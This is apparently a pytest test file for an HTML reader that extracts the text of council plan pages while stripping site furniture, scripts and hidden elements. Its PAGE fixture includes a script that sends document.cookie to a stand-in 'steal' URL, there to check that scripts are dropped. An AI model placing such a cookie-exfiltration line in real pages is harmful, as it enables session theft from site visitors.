"""The HTML reader: each bundled plan as a web page gives the records of its text; lists, tables, site furniture."""

from __future__ import annotations

import pytest

from graphkit.errors import DocumentError
from indexer.readers import html as reader
from tests.conftest import DATA, DOCS, catalogue_plan
from tests.plan_files import compare_with_text, write_html


@pytest.mark.parametrize("doc_id", DOCS.values())
def test_web_page_plan_gives_the_records_of_its_text(tmp_path, doc_id):
    path = tmp_path / f"{doc_id}.html"
    write_html((DATA / "plans" / catalogue_plan(doc_id).file).read_text(encoding="utf-8-sig"), path)
    model = reader.read(path)
    count, reordered = compare_with_text(doc_id, model.lines)
    assert count > 20
    assert reordered == []
    text = "\n".join(line.raw for line in model.lines)
    for furniture in ("Council site header", "Site menu", "Copyright the council", "document.title", "color: red"):
        assert furniture not in text


PAGE = """<!doctype html>
<html><head><title>Plan</title>
<script>fetch("https://example.invalid/steal?" + document.cookie)</script>
<style>.x { display: none }</style></head>
<body>
<header><a href="/">Council home</a><form><input name="q"><button>Search</button></form></header>
<nav><ul><li>Home</li><li>Children and families</li></ul></nav>
<main>
<article>
<header><h1>Our Promise Plan 2024-2026</h1></header>
<p>Over the term of this plan, <b>we will</b>:</p>
<ul>
  <li>Offer independent advocacy
    <ul><li>to every child in care</li><li>and to their families</li></ul>
  </li>
  <li>Review the kinship allowance</li>
</ul>
<h2>Actions</h2>
<ol start="3"><li>Publish the plan</li><li>Report each year</li></ol>
<div>Lead: Head of Education<br>By: March 2026</div>
<p hidden>Draft: do not publish</p>
<p style="display:none">Internal note</p>
<span class="sr-only">Opens in a new window</span>
<aside>Related pages</aside>
<script>document.write("injected")</script>
</article>
</main>
<footer>Copyright the council</footer>
</body></html>
"""


def test_headings_lists_and_text_keep_their_levels_and_lines(tmp_path):
    (tmp_path / "plan.html").write_text(PAGE, encoding="utf-8")
    model = reader.read(tmp_path / "plan.html")
    got = [(b.kind, b.level, b.marker, b.text, b.where.source_line) for b in model.blocks]
    assert got == [
        ("heading", 1, "", "Our Promise Plan 2024-2026", 10),
        ("paragraph", 0, "", "Over the term of this plan, we will:", 11),
        ("item", 0, "•", "Offer independent advocacy", 13),
        ("item", 1, "•", "to every child in care", 14),
        ("item", 1, "•", "and to their families", 14),
        ("item", 0, "•", "Review the kinship allowance", 16),
        ("heading", 2, "", "Actions", 18),
        ("item", 0, "3.", "Publish the plan", 19),
        ("item", 0, "4.", "Report each year", 19),
        ("paragraph", 0, "", "Lead: Head of Education By: March 2026", 20),
    ]
    assert [line.raw for line in model.lines][4:7] == [
        "• Offer independent advocacy",
        "  • to every child in care",
        "  • and to their families",
    ]


def test_scripts_styles_navigation_and_hidden_text_are_dropped_and_recorded(tmp_path):
    (tmp_path / "plan.html").write_text(PAGE, encoding="utf-8")
    model = reader.read(tmp_path / "plan.html")
    text = "\n".join(line.raw for line in model.lines)
    for unwanted in (
        "fetch",
        "cookie",
        "display",
        "Council home",
        "Search",
        "Children and families",
        "Draft",
        "Internal note",
        "new window",
        "Related pages",
        "injected",
        "Copyright",
    ):
        assert unwanted not in text
    assert sorted({reason for _, reason in model.skipped}) == [
        "web page aside dropped",
        "web page head element dropped",
        "web page hidden element dropped",
        "web page navigation dropped",
        "web page script or style dropped",
        "web page site footer dropped",
        "web page site header dropped",
    ]
    assert (25, "web page script or style dropped") in [(w.source_line, r) for w, r in model.skipped]


def test_table_spans_are_spread_over_the_grid(tmp_path):
    (tmp_path / "table.html").write_text(
        """<table>
<thead><tr><th>Outcome</th><th>Action</th><th>Lead</th></tr></thead>
<tbody>
<tr><td rowspan="2">Safe homes</td><td>Recruit carers</td><td>Fostering</td></tr>
<tr><td>Review allowances</td><td>Finance</td></tr>
<tr><td colspan="3">All actions are reviewed <em>each year</em></td></tr>
<tr><td>Voice</td><td>Hear children<table><tr><td>nested note</td></tr></table></td><td>Reviewing Officers</td></tr>
</tbody></table>""",
        encoding="utf-8",
    )
    model = reader.read(tmp_path / "table.html")
    [table] = model.blocks
    assert table.rows == (
        ("Outcome", "Action", "Lead"),
        ("Safe homes", "Recruit carers", "Fostering"),
        ("", "Review allowances", "Finance"),
        ("All actions are reviewed each year", "", ""),
        ("Voice", "Hear children nested note", "Reviewing Officers"),
    )
    assert [(w.label, w.source_line) for w in table.row_where][:2] == [("table 1, row 1", 2), ("table 1, row 2", 4)]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", r"^page\.html: the file is empty$"),
        (b"  \n\t", r"^page\.html: the file is empty$"),
        (b"\x00\x01PNG", r"^page\.html: looks like a binary file"),
    ],
    ids=["empty", "blank", "binary"],
)
def test_bad_web_page_is_refused_naming_the_file(tmp_path, content, message):
    (tmp_path / "page.html").write_bytes(content)
    with pytest.raises(DocumentError, match=message):
        reader.read(tmp_path / "page.html")
